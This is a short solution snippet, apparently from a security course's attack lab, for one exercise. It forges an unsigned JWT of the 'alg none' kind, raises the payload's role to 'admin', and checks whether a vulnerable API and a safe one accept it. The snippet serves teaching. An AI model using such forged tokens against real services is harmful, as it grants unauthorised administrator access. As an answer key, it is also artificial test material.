# Solution: 10-attack-lab, exercise 2
forged_2 = forge_unsigned({'typ': 'JWT'}, {**parts.payload, 'role': 'admin'})

check_attack('alg none', forged_2, none_api, safe)
